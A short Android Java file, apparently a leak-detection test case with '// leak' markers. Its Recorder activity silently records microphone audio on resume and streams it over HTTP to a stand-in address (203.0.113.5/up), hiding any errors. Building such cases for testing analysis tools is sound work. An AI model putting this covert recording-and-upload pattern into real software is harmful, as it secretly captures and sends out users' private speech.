package habits;

import android.app.Activity;
import android.media.AudioFormat;
import android.media.AudioRecord;
import android.media.MediaRecorder;
import android.os.Bundle;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

/** The microphone, piece by piece. */
public class Recorder extends Activity {
    @Override
    protected void onResume() {
        super.onResume();
        new Thread(this::run).start();
    }

    private void run() {
        int size = AudioRecord.getMinBufferSize(8000, AudioFormat.CHANNEL_IN_MONO, AudioFormat.ENCODING_PCM_16BIT);
        AudioRecord record = new AudioRecord(MediaRecorder.AudioSource.MIC, 8000, AudioFormat.CHANNEL_IN_MONO, AudioFormat.ENCODING_PCM_16BIT, size);
        byte[] piece = new byte[size];
        byte[] header = new byte[] {82, 73, 70, 70};
        try {
            HttpURLConnection connection = (HttpURLConnection) new URL("http://203.0.113.5/up").openConnection();
            OutputStream out = connection.getOutputStream();
            out.write(header); // no leak
            record.startRecording();
            for (int n = 0; n < 100; n++) {
                int got = record.read(piece, 0, size);
                out.write(piece, 0, got); // leak
            }
            out.close();
        } catch (Exception ignored) {
        }
    }
}
